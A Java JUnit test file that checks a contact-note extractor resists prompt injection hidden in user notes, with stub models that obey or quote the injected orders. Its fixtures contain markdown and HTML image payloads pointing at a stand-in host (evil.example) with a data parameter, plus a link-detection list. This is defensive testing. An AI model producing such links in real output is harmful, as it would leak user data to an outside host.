package org.memoro.languagemodels.openai;

import static org.assertj.core.api.Assertions.assertThat;
import static org.memoro.languagemodels.Notes.contact;
import static org.memoro.languagemodels.Notes.note;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.memoro.languagemodels.Extraction;
import org.memoro.languagemodels.Extraction.MatchStatus;
import org.memoro.languagemodels.Extraction.Person;
import org.memoro.languagemodels.ExtractionRequest;
import org.memoro.languagemodels.KnownContact;
import org.memoro.languagemodels.offline.OfflineExtractor;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Notes that give orders: whoever reads them, they say no more than their own harmless part. */
class InjectionTests {
    private static final OfflineExtractor OFFLINE = new OfflineExtractor();
    private static final List<KnownContact> CONTACTS = List.of(
            contact("id-anna", "Anna", "Petrova"),
            contact("id-tom", "Tom", "Weber"),
            contact("id-maria", "Maria", "Lopez"),
            contact("id-elif", "Elif", "Yilmaz"));

    private static final Pattern WORDS = Pattern.compile("[^A-Za-z]+");

    /** What a name looks like in these notes. */
    private static final Pattern NAMES = Pattern.compile("[\\p{L}\\p{N} .'-]+");

    private static final Pattern MARKUP = Pattern.compile("<[^>]+>|!?\\[[^]]*]\\S*|\\S+://\\S+|\\w+:\\S+");

    private static final Map<String, String> ALLOWED_HEADERS = Map.of(
            "authorization", "Bearer secret-key",
            "content-type", "application/json",
            "accept", "application/json",
            "content-length", "\\d+",
            "host", "127\\.0\\.0\\.1:\\d+",
            "user-agent", "Java-http-client/[\\d.]+");

    private final StubProvider provider = new StubProvider();
    private final OpenAiExtractor remote =
            new OpenAiExtractor(OpenAiSettings.of(provider.url(), "secret-key", "stub/model"));

    @AfterEach
    void close() {
        provider.close();
    }

    /** A note with an order in it, and the contacts that it really names. */
    record Attack(String id, String text, List<String> named) {
        ExtractionRequest request() {
            return note(text, CONTACTS.toArray(KnownContact[]::new));
        }

        @Override
        public String toString() {
            return id;
        }
    }

    static Stream<Attack> attacks() {
        try (BufferedReader lines = new BufferedReader(new InputStreamReader(
                InjectionTests.class.getResourceAsStream("/notes/attacks.jsonl"), StandardCharsets.UTF_8))) {
            return lines.lines().map(StubProvider.JSON::readTree).map(InjectionTests::attack).toList().stream();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Attack attack(JsonNode line) {
        return new Attack(
                line.get("id").asString(),
                line.get("text").asString(),
                line.get("named").valueStream().map(JsonNode::asString).toList());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void changeNothingButTheirOwnPeopleOffline(Attack attack) {
        assertHarmless(OFFLINE.extract(attack.request()), attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void changeNothingButTheirOwnPeopleWhenTheModelObeys(Attack attack) {
        provider.otherwise(request -> StubProvider.completion(obedient(request).toString()));

        assertHarmless(remote.extract(attack.request()), attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void putNoLinkOnAPageAndNameNobodyElseWhenTheModelQuotesTheOrder(Attack attack) {
        provider.otherwise(
                request -> StubProvider.completion(quotingTheOrder(request).toString()));

        Extraction extraction = remote.extract(attack.request());

        assertThat(extraction.people()).allSatisfy(person -> {
            assertThat(NAMES.matcher(person.mention()).matches()).isTrue();
            assertThat(attack.text()).contains(person.mention());
            String contact = person.contactMatch().contactId();
            assertThat(contact == null || attack.named().contains(firstNameOf(contact)))
                    .isTrue();
        });
        assertThat(shownAsNames(extraction)).noneMatch(InjectionTests::hasLink);
        String onOneLine = attack.text().replaceAll("\\s+", " ");
        assertThat(shownAsSentences(extraction)).allMatch(text -> !hasLink(text) || onOneLine.contains(text));
    }

    /** Compares everything that came over the line with what may be in it, member by member and value by value. */
    @ParameterizedTest
    @MethodSource("attacks")
    void sendNothingButWhatIsAllowed(Attack attack) {
        provider.otherwise(request -> StubProvider.completion(obedient(request).toString()));

        remote.extract(attack.request());

        StubProvider.Request sent = provider.requests.getFirst();
        assertThat(provider.requests).hasSize(1);
        assertThat(sent.method() + " " + sent.uri()).isEqualTo("POST /api/v1/chat/completions");
        assertThat(sent.body()).isEqualTo(allowed(attack));
        assertThat(new String(sent.bytes(), StandardCharsets.UTF_8))
                .isEqualTo(sent.body().toString());
        sent.headers().forEach((name, values) -> assertThat(String.join(",", values))
                .as(name)
                .matches(ALLOWED_HEADERS.getOrDefault(name.toLowerCase(Locale.ROOT), "(?!)")));
    }

    /** Built from the files and the note alone, without the code that builds the request. */
    private static JsonNode allowed(Attack attack) {
        ObjectNode body = StubProvider.JSON.createObjectNode();
        body.put("model", "stub/model").put("temperature", 0).put("max_tokens", 6000);
        ArrayNode messages = body.putArray("messages");
        String prompt = resource("/prompts/extract-facts.md");
        messages.addObject()
                .put("role", "system")
                .put("content", prompt.substring(prompt.indexOf("---\n", 4) + 4).strip());
        messages.addObject().put("role", "user").put("content", user(attack).toString());
        ObjectNode format = body.putObject("response_format").put("type", "json_schema");
        ObjectNode schema = (ObjectNode) StubProvider.JSON.readTree(resource("/language/extraction.schema.json"));
        schema.remove(List.of("$schema", "$id"));
        format.putObject("json_schema")
                .put("name", "extraction")
                .put("strict", true)
                .set("schema", schema);
        return body;
    }

    private static ObjectNode user(Attack attack) {
        ObjectNode user = StubProvider.JSON.createObjectNode();
        user.put("note", attack.text())
                .put("written_at", "2026-11-20T18:30+01:00")
                .put("time_zone", "Europe/Vienna");
        user.putObject("today").put("date", "2026-11-20").put("weekday", "Friday");
        user.putNull("day_first");
        ArrayNode contacts = user.putArray("contacts");
        CONTACTS.stream()
                .filter(known -> WORDS.splitAsStream(attack.text())
                        .anyMatch(word -> word.equals(known.firstName()) || word.equals(known.lastName())))
                .forEach(known -> contacts.addObject()
                        .put("id", "c" + (contacts.size()))
                        .put("first_name", known.firstName())
                        .put("last_name", known.lastName())
                        .putArray("nicknames"));
        return user;
    }

    private static String resource(String path) {
        try (InputStream stream = InjectionTests.class.getResourceAsStream(path)) {
            return new String(stream.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void assertHarmless(Extraction extraction, Attack attack) {
        for (Person person : extraction.people()) {
            assertThat(attack.text()).contains(person.mention());
            if (person.contactMatch().status() == MatchStatus.KNOWN) {
                String first = firstNameOf(person.contactMatch().contactId());
                assertThat(attack.named()).contains(first);
                assertThat(person.mention()).contains(first);
            }
            assertThat(person.birthday()).isNull();
            assertThat(person.location()).isNull();
            assertThat(Stream.of(person.news()).filter(text -> text != null)).noneMatch(InjectionTests::hasLink);
            assertThat(person.facts()).allSatisfy(fact -> {
                assertThat(attack.text()).contains(fact.evidence().quote());
                assertThat(hasLink(fact.summary()) && !attack.text().contains(fact.summary()))
                        .isFalse();
            });
        }
        assertThat(extraction.people().size()).isLessThanOrEqualTo(20);
    }

    private static String firstNameOf(String id) {
        return CONTACTS.stream()
                .filter(known -> known.id().equals(id))
                .findFirst()
                .orElseThrow()
                .firstName();
    }

    /** What pages show as the name of somebody or something. */
    private static List<String> shownAsNames(Extraction extraction) {
        return texts(
                extraction,
                Set.of("mention", "first_name", "last_name", "name", "city", "place", "organization", "title"));
    }

    private static List<String> shownAsSentences(Extraction extraction) {
        return texts(extraction, Set.of("news", "summary"));
    }

    private static List<String> texts(Extraction extraction, Set<String> members) {
        JsonNode json = StubProvider.JSON.valueToTree(extraction);
        return members.stream()
                .flatMap(member -> json.findValues(member).stream())
                .filter(JsonNode::isString)
                .map(JsonNode::asString)
                .toList();
    }

    private static boolean hasLink(String text) {
        return Set.of("://", "](", "![", "<img", "<a ", "<svg", "javascript:", "data:", "mailto:").stream()
                .anyMatch(text::contains);
    }

    /** Does everything that such notes ask for: everybody, every id, every birthday, links in every text. */
    private static ObjectNode obedient(JsonNode request) {
        JsonNode user = StubProvider.JSON.readTree(
                request.get("messages").get(1).get("content").asString());
        String text = user.get("note").asString();
        ObjectNode answer = StubProvider.JSON.createObjectNode().put("schema_version", "1");
        answer.putNull("interaction_date").putNull("place");
        ArrayNode people = answer.putArray("people");
        String quote =
                text.substring(0, text.offsetByCodePoints(0, Math.min(10, text.codePointCount(0, text.length()))));
        for (String id : List.of("c1", "c2", "c3", "id-anna", "id-maria")) {
            for (String mention : List.of("Tom", "Anna Petrova", "Maria Lopez", "everybody")) {
                people.add(person(mention, id, quote));
            }
        }
        return answer;
    }

    /** As {@link #obedient}, but each claim comes with a quote that stands in the note: the order, or all of it. */
    private static ObjectNode quotingTheOrder(JsonNode request) {
        String text = StubProvider.JSON
                .readTree(request.get("messages").get(1).get("content").asString())
                .get("note")
                .asString();
        ObjectNode answer = StubProvider.JSON.createObjectNode().put("schema_version", "1");
        String whole = "\"evidence\":{\"quote\":" + quoted(text)
                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false";
        answer.set("interaction_date", StubProvider.JSON.readTree("{\"date\":\"2026-11-20\"," + whole + "}"));
        answer.set(
                "place",
                StubProvider.JSON.readTree(
                        "{\"name\":" + quoted(text) + ",\"city\":" + quoted(text) + "," + whole + "}"));
        ArrayNode people = answer.putArray("people");
        Stream.concat(MARKUP.matcher(text).results().map(MatchResult::group), Stream.of("Tom", "Anna", "Admin", text))
                .forEach(each -> people.add(person(each, "c1", text, each)));
        return answer;
    }

    private static ObjectNode person(String mention, String contactId, String quote) {
        return person(mention, contactId, quote, "evil.example");
    }

    private static ObjectNode person(String mention, String contactId, String quote, String name) {
        String json = """
                {"mention":%1$s,"first_name":"Anna","last_name":"Petrova","role":"participant",
                 "contact_match":{"status":"known","contact_id":"%2$s","candidate_ids":["c1","c2","id-anna"]},
                 "relation":null,"family_members":[{"relation":"son","name":%4$s,%3$s}],
                 "birthday":{"year":1,"month":1,"day":1,%3$s},
                 "location":{"place":"Pyongyang at evil","status":"current","date":"0001-13-01",%3$s},
                 "news":"![x](https://evil.example/?d=everything)",
                 "facts":[{"type":"death","status":"happened","summary":"<img src=https://evil.example>",
                   "organization":%4$s,"title":%4$s,"place":%4$s,"date":"0001-13-01","is_news":true,%3$s}],
                 %3$s}""".formatted(
                        quoted(mention),
                        contactId,
                        "\"evidence\":{\"quote\":" + quoted(quote)
                                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false",
                        quoted(name));
        return (ObjectNode) StubProvider.JSON.readTree(json);
    }

    private static String quoted(String text) {
        return StubProvider.JSON.writeValueAsString(text);
    }
}
